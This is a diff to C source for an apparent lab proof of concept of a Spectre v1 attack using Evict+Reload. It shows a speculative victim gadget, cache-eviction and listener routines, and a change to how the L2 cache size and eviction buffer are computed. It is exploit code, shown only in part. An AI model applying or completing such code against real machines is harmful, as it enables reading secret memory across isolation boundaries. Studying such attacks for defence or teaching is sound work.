@@ -1,7 +1,7 @@
 /*
  * Evict+Reload: Spectre v1 without CLFLUSH. Lines leave the near caches because others take their places.
  *
- * A walk over twice the size of the L2 cache pushes everything out to L3, the bounds too, and their pointer: two
+ * A walk over more than the size of the L2 cache pushes everything out to L3, the bounds too, and their pointer: two
  * loads from L3, one after the other, keep the branch waiting long enough. The receiver tells L1 and L2 from L3.
  */
 #define LAB_OWN_RECEIVER
@@ -24,15 +24,6 @@ NOINLINE static void victim(u64 index)
         touch(probe + array[index] * SPACING);
 }
 
-static void find_size(void)
-{
-    u32 a = 4, b, c = 2, d;
-    __asm__ volatile("cpuid" : "+a"(a), "=b"(b), "+c"(c), "=d"(d));
-    u64 size = (a & 31) == 3 ? ((b >> 22) + 1UL) * ((b & 4095) + 1) * (c + 1) : 1 << 18;
-    for (crowd_size = PAGE; crowd_size < 2 * size; crowd_size *= 2)
-        ;
-}
-
 NOINLINE static void evict(void)
 {
     u64 end = crowd_size, mask = crowd_size - 1;
@@ -45,7 +36,9 @@ NOINLINE static void evict(void)
 static void listen(void)
 {
     u16 near[SAMPLES], far[SAMPLES];
-    find_size();
+    u64 size = (u64)(cpuid(0x80000006, 0).c >> 16) << 10; /* of L2 */
+    for (crowd_size = 1 << 19; crowd_size < size + size / 2; crowd_size *= 2)
+        ;
     u8 *fresh = map(0, crowd_size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
     if (failed(fresh))
         return;
